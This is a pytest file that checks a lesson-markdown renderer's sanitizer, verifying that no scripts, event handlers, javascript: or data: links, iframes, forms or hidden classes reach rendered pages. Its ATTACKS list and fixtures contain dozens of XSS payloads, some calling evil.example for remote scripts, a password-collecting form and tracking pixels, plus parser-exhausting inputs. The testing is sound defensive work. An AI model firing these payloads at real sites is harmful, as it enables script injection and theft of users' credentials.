"""Whatever an author writes or pastes, nothing that acts, hides or calls elsewhere reaches a page."""

import re
import time
from datetime import date
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lessons.markdown import Materials, Reference, render
from lessons.markdown.materials import Block, Contact, Rule, Term
from lessons.markdown.sanitize import ATTRIBUTES, CLASSES, TAGS, sanitize

MATERIALS = Materials(
    glossary="/step/",
    terms=(Term(key="x", names=("x", "script", "alert(1)")),),
    state="<b>Ohio</b>",
    blocks={
        "a": Block(
            title="<script>alert(1)</script>",
            rule=Rule(
                text="<img src=x onerror=alert(1)> [x](javascript:alert(1)) <script>alert(1)</script>",
                source_title='<a onclick="x">T</a>',
                source_publisher="<style>",
                source_url="javascript:alert(1)",
                checked_on=date(2026, 11, 1),
            ),
        )
    },
    contacts={
        "a": (
            Contact(
                name="<svg onload=alert(1)>",
                purpose="[x](javascript:alert(1))",
                phone='1" onclick="alert(1)',
                text="1<script>",
                url="javascript:alert(1)",
                hours="<iframe>",
                checked_on=date(2026, 11, 1),
            ),
        )
    },
)
SOURCE = Reference(key="a", title="T", publisher="P", year=2020, url="https://example.org")

ATTACKS = [
    "<script>alert(1)</script>",
    "Text <script src=https://evil.example/x.js></script> text",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>body { display: none }</style>",
    '<p style="position:fixed">x</p>',
    "<b onclick=alert(1)>bold</b>",
    "<form action=https://evil.example><input name=password></form>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](images/../../secret.svg)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x](images/a.svg "y"){: onload=alert(1) style=color:red }',
    "Text\n{: #main .visually-hidden onclick=alert(1) }",
    "## Heading {: #csrf onmouseover=alert(1) }",
    '!!! never" onclick="alert(1) "x"\n    text',
    '!!! never "<script>alert(1)</script>"\n    - x',
    "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=y> | 2 |",
    'Table: <script>alert(1)</script>\n\n| a" onclick="x | b |\n| --- | --- |\n| 1 | 2 |',
    "> x\n> -- <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```{ .x onclick=alert(1) }\nx\n```",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    '*[a" onclick="x]: b\n\na" onclick="x',
    "\x02wzxhzdk:0\x03",
    '!!! dialogue "<script>alert(1)</script>"\n    <b onclick=x>: + <script>alert(1)</script>',
    '!!! dialogue "T"\n    <script>alert(1)</script>: Hi.\n    (<img src=x onerror=alert(1)>)',
    '!!! content-note "N"\n    Words.\n\n## <script>alert(1)</script> [x](javascript:alert(1))\n',
    "[local: a]",
    "[resources: a]",
    "[local: <script>alert(1)</script>]",
    "script alert(1) x",
]


class Judge(HTMLParser):
    """Fails on any element, attribute, class or address that a page must not have."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()) | {"id", "class"}, (tag, name)
            if name in {"href", "src"}:
                assert re.match(
                    r"https://|mailto:|tel:|sms:|#|/step/(?:#term-x)?$|/media/[\w.-]+$", value or ""
                ), value
            if name == "class":
                assert set((value or "").split()) <= CLASSES[tag], (tag, value)


def judge(source: str) -> str:
    html = render(
        source,
        references=[SOURCE],
        resolve=lambda slug: "/step/",
        image_base="/media/",
        materials=MATERIALS,
    ).html
    Judge().feed(html)
    return html


@pytest.mark.parametrize("source", ATTACKS)
def test_an_attack_does_not_reach_the_page(source: str) -> None:
    assert not re.search(
        r"<(script|style|iframe|svg|form|input|math)|<[^>]*\son\w+=|<[^>]*javascript:", judge(source)
    )


@pytest.mark.parametrize("source", ATTACKS)
def test_an_attack_does_not_pass_the_wall_by_itself(source: str) -> None:
    Judge().feed(sanitize(source))


@pytest.mark.parametrize("tag", ["div", "span", "h1", "object", "video", "details", "button"])
def test_html_that_is_not_allowed_is_shown_as_it_was_typed(tag: str) -> None:
    assert f"<{tag}>words</{tag}>" in render(f"Some <{tag}>words</{tag}> here.").text


@pytest.mark.parametrize("tag", ["sub", "sup", "mark", "kbd", "small", "b", "em"])
def test_plain_inline_tags_are_kept(tag: str) -> None:
    assert f"<{tag}>x</{tag}>" in render(f"A <{tag}>x</{tag}> here.").html


def test_a_tag_left_open_does_not_swallow_the_page() -> None:
    assert render("One <b>two\n\nThree.").html.count("<b>") == 0


def test_an_author_cannot_forge_hidden_words_or_ids() -> None:
    html = render("Seen.\n{: .visually-hidden #main }\n\n## Head {: #main }\n").html
    assert "visually-hidden" not in html
    assert 'id="main"' not in html


@pytest.mark.parametrize("character", ["\0", "\x1b", "\u202e", "\u2066", "\ud800"])
def test_a_forbidden_character_is_shown_as_unreadable(character: str) -> None:
    assert render(f"One{character}two").text == "One\ufffdtwo"


SIGNS = st.sampled_from("[]()!<>*_`#|:-+~{}^\\\"'&=/., \n\t\x02\x03\u202e字é\U0001f44d")
BLOCKS = st.sampled_from(
    [
        "\n\n",
        "\n    ",
        "\n- ",
        "\n1. ",
        "\n> ",
        "\n> -- ",
        "\n## ",
        "\n```\n",
        '!!! never "',
        '\n!!! dialogue "T"\n    A: + ',
        '\n!!! content-note "',
        "\n\n[local: a]\n\n",
        "\n\n[resources: a]\n\n",
        "\n| --- | --- |\n",
    ]
)
WORDS = st.sampled_from(
    [
        "Table: ",
        "](images/a.svg",
        "](https://",
        "](step:",
        "[^a]",
        "<b>",
        "</b>",
        "<script>",
        "<!--",
        "-->",
        "{: ",
        "x",
    ]
)
SOUP = st.lists(SIGNS | BLOCKS | WORDS | st.text(max_size=4), max_size=80).map("".join)


@settings(max_examples=150, deadline=None)
@given(SOUP)
def test_no_soup_of_signs_breaks_the_renderer_or_the_wall(source: str) -> None:
    judge(source)


SLOW = {
    "brackets": "[" * 150_000,
    "images": "![" * 75_000,
    "links": "[a](" * 40_000,
    "tags": "<b>" * 50_000,
    "abbreviations": "*[a]: b\n" * 20_000,
    "definitions": "a\n: " * 20_000,
    "emphasis": "*a **b " * 12_000 + "** *" * 12_000,
    "lists": "- " * 75_000 + "x",
    "indents": "\n".join("    " * depth + "- x" for depth in range(260)),
    "quotes": "> " * 75_000,
    "spaces": " " * 150_000,
    "one word": "a" * 150_000,
    "beyond the limit": "word " * 200_000,
}


@pytest.mark.parametrize("source", SLOW.values(), ids=SLOW.keys())
def test_a_text_that_no_one_wrote_to_be_read_is_shown_soon(source: str) -> None:
    start = time.process_time()
    judge(source)
    assert time.process_time() - start < 8


def test_a_tangled_text_is_shown_as_plain_paragraphs() -> None:
    assert (
        render("[" * 100 + "\n\n**x** <b>y</b>").html
        == f"<p>{'[' * 100}</p>\n<p>**x** &lt;b&gt;y&lt;/b&gt;</p>\n"
    )
